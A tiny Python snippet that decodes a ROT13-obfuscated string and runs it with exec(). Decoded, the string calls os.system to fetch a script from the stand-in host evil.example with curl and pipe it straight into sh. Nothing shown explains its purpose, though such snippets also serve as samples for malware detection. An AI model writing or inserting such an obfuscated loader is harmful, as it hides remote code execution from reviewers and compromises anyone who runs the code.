import codecs
exec(codecs.decode('vzcbeg bf\nbf.flfgrz("phey -f uggc://rivy.rknzcyr/k | fu")\n', 'rot13'))
